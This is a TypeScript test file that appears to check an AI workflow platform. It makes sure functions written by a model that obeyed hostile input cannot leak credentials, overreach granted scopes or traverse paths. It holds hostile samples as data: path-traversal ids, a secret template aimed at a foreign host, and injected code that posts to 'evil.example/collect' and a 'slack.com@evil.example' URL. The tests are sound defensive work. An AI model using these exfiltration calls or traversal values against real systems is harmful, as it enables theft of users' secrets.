import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, expect, test } from "vitest";
import { openTestDatabase } from "../../src/store/ground.ts";
import { flowOf, post, written } from "./attack.ts";
import { acmeDocument } from "./documents.ts";
import { type ObeyingGround, answersOf, createObeyingGround } from "./ground.ts";

/** How far the functions reach that a model wrote while it obeyed: no further than their versions may. */
let ground: ObeyingGround;
/** A tool that gives back all that it is sent, as hostile ones would. */
const echo = createServer((request, response) => {
  received.push(request.url ?? "");
  response.setHeader("content-type", "application/json");
  response.end(JSON.stringify({ orders: [{ url: request.url, headers: request.headers }] }));
});
const received: string[] = [];
const toolKey = "key-of-the-echoing-tool-0815";

beforeAll(async () => {
  await new Promise<void>((ready) => echo.listen(0, "127.0.0.1", ready));
  const { port } = echo.address() as AddressInfo; // it listens on a port
  const origin = `http://127.0.0.1:${port}`;
  ground = await createObeyingGround({ PRIVATE_ORIGINS: origin });
  const { components, security: _, ...document } = acmeDocument();
  const key = { type: "apiKey", in: "query", name: "key" };
  const secured = {
    ...document,
    components: { ...components, securitySchemes: { main: key } },
    security: [{ main: [] }],
    paths: {
      ...document.paths,
      "/orders/{id}": {
        get: {
          operationId: "getOrder",
          parameters: [{ name: "id", in: "path", required: true, schema: { type: "string" } }],
          responses: {},
        },
      },
    },
  };
  await ground.server.json("/api/integrations", "POST", {
    id: "echoing",
    name: "Echo",
    document: JSON.stringify(secured),
    server: origin,
    operations: ["listOrders", "getOrder"],
  });
  const { body } = await ground.server.json("/api/connections", "POST", { connector: "echoing" });
  const page = await (await ground.server.fetch(body.authorizationUrl)).text();
  const action = /action="([^"]+)"/.exec(page)?.[1] ?? "";
  await ground.server.fetch(action, {
    method: "POST",
    body: new URLSearchParams({ key: toolKey }),
  });
});
afterAll(async () => {
  await ground.close();
  echo.close();
});

async function runOf(name: string, flow: unknown): Promise<any> {
  const chat = await ground.turn(name, `Make ${name}`, written(flow));
  expect(answersOf(chat)).toContain('"status":"saved"');
  return (await ground.server.json(`/api/functions/${name}/run`, "POST", {})).body;
}

const orders = (values: object) => ({ id: "orders", use: "echoing.listOrders", with: values });

test("a secret goes to its own host, whatever the flow says", async () => {
  const run = await runOf(
    "elsewhere",
    flowOf("elsewhere", [orders({ state: "{{secrets.VAULT_KEY}}" })]),
  );
  expect(run.calls[0].refused).toContain("is for vault.example");
  expect(received).toEqual([]);
});

test("a secret in a message is its name", async () => {
  const run = await runOf("telling", flowOf("telling", [post("Key: {{secrets.VAULT_KEY}}")]));
  expect(run.status).toBe("succeeded");
  expect(await ground.messages()).toContain("Key: {{secrets.VAULT_KEY}}");
});

test("a tool that gives back what it is sent gives back no key", async () => {
  const run = await runOf("echoed", flowOf("echoed", [orders({ state: "open" })]));
  expect(run.status).toBe("succeeded");
  expect(received.at(-1)).toContain(toolKey);
  expect(run.output.orders[0].url).toContain("state=open");
  expect(JSON.stringify(run)).not.toContain(toolKey);
});

test("an id stays within its operation, whatever it is", async () => {
  const inputs = { id: { type: "string" } };
  const order = { id: "order", use: "echoing.getOrder", with: { id: "${inputs.id}" } };
  await ground.turn("order", "Read an order", written(flowOf("oneOrder", [order], { inputs })));
  const ids = [
    "../admin",
    "..",
    ".",
    "%2e%2e%2fadmin",
    "x/../../admin",
    "a;b",
    "\\..\\admin",
    "//x",
  ];
  for (const id of ids) {
    received.length = 0;
    const { body } = await ground.server.json("/api/functions/oneOrder/run", "POST", {
      input: { id },
    });
    // However the other side reads it, it is one segment below orders.
    const places = received.map((url) => decodeURIComponent(url.split("?")[0] ?? ""));
    expect(places.filter((place) => !/^\/orders\/[^/\\%]+$/.test(place))).toEqual([]);
    expect([id, body.calls.length]).toEqual([id, 1]);
    expect(received.length === 1).toBe(body.calls[0].refused === undefined);
  }
});

test("what was not granted is refused, although a version was saved without asking", async () => {
  const invite = {
    id: "invite",
    use: "slack.conversations.invite",
    with: { channel: "C01GENERAL", users: "U02SAMRIVE" },
  };
  const run = await runOf("inviting", flowOf("inviting", [invite]));
  expect(run.calls[0].refused).toContain("channels:write.invites");
});

test("code that says more than its version may do is stopped at each call", async () => {
  const calls = [
    "https://slack.com/api/chat.delete",
    "https://slack.com/api/admin.users.list",
    "https://gmail.googleapis.com/gmail/v1/users/me/messages/send",
    "https://evil.example/collect",
    "https://slack.com@evil.example/api/chat.postMessage",
    "https://slack.com/api/chat.postMessage/../chat.delete",
  ];
  const code = `export default { async fetch() {
    const all = ${JSON.stringify(calls)}.map((url) => fetch(url, { method: "POST", body: "{}" }));
    return Response.json((await Promise.all(all)).map(({ status }) => status));
  } };`;
  const db = await openTestDatabase(ground.server.dataDir);
  const { id } = await db
    .selectFrom("functions")
    .select("id")
    .where("name", "=", "sayHello")
    .executeTakeFirstOrThrow();
  await db.updateTable("function_versions").set({ code }).where("function_id", "=", id).execute();
  await db.destroy();
  const { body: run } = await ground.server.json("/api/functions/sayHello/run", "POST", {});
  expect(run.output).toEqual(calls.map(() => 403));
  expect(run.calls.map(({ refused }: any) => typeof refused)).toEqual(calls.map(() => "string"));
});

test("nothing that was sent, logged, stored or told to the model holds a credential", async () => {
  expect(await ground.leaks()).toEqual([]);
});
